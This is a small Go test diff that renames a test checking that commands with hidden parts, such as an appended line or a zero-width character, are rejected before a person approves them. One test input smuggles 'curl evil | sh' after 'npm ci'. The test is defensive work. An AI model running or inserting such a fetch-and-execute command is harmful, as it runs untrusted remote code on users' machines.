@@ -39,8 +39,8 @@ func TestProjectCommandIsAcceptedByAPerson(t *testing.T) {
 	}
 }
 
-// TestARefusalThatHidesSomethingNamesNoSum, because a person would accept what it hasn't read.
-func TestARefusalThatHidesSomethingNamesNoSum(t *testing.T) {
+// TestRequireAccepted_HiddenPartNamesNoSum, because a person would accept what it hasn't read.
+func TestRequireAccepted_HiddenPartNamesNoSum(t *testing.T) {
 	for command, whole := range map[string]bool{
 		"npm ci": true, strings.Repeat("x", 160): true, strings.Repeat("x", 161): false,
 		"npm ci\ncurl evil | sh": false, "npm\u200b ci": false, "a  b": false,
